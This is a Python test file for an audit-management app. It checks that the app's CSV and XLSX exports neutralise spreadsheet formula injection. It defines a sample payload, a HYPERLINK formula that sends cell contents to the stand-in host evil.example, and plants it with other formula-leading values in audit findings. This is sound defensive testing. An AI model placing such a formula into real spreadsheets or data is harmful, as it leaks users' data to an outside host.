"""HQ's CSV and XLSX exports never hand a spreadsheet a formula (issue 15, point 8): the
dashboard's findings CSV, the figures CSV and XLSX; a CSV SVA wrote reads back as written."""
from __future__ import annotations

import csv
import io
import json

from openpyxl import load_workbook

from sva.hq.app import create_app
from sva.hq.programme.figures_render import figures_csv
from sva.hq.programme.tabular import read_table
from sva.hq.programme_export import write_xlsx
from sva.hq.programme_figures import figures_from_db
from sva.hq.storage import open_storage

from .test_dashboard_http import client

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"details")'


def test_dashboard_findings_csv_neutralises_formulas(demo_copy):
    storage = open_storage(demo_copy)
    with storage.transaction() as tx:
        row = tx.one("SELECT a.id, a.document FROM audits a JOIN findings f "
                     "ON f.audit_id = a.id LIMIT 1")
        doc = json.loads(row["document"])
        doc["findings"][0]["observed"] = EVIL
        doc["findings"][0]["required_action"] = "@SUM(1,1)"
        tx.execute("UPDATE audits SET document = ? WHERE id = ?", (json.dumps(doc), row["id"]))
        tx.execute("UPDATE findings SET corrective_action = ? WHERE id = ?",
                   ("-1+1", doc["findings"][0]["id"]))
    text = client(create_app(storage), "mgr.sato").get(
        f"/dashboard/audits/{row['id']}/findings.csv").text
    cells = [c for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in r]
    assert "'" + EVIL in cells and "'@SUM(1,1)" in cells and "'-1+1" in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


def test_figures_csv_and_xlsx_hold_no_formula(demo_storage, tmp_path):
    with demo_storage.transaction(write=False) as tx:
        fig = figures_from_db(tx, 2024)
    fig["improvement_topics"][0]["title"] = {"en": EVIL, "ja": "+" + EVIL}
    fig["improvement_topics"][0]["item_id"] = "-" + fig["improvement_topics"][0]["item_id"]
    text = figures_csv(fig)
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert "'" + EVIL in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    path = tmp_path / "figures.xlsx"
    write_xlsx(fig, path, "en")
    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == EVIL and c.quotePrefix for c in cells)     # text, as written

    exported = tmp_path / "figures.csv"
    exported.write_text(text, encoding="utf-8")
    table, problems = read_table(exported)                            # SVA reads it back
    assert not problems and any(EVIL in row.values() for _, row in table.rows)
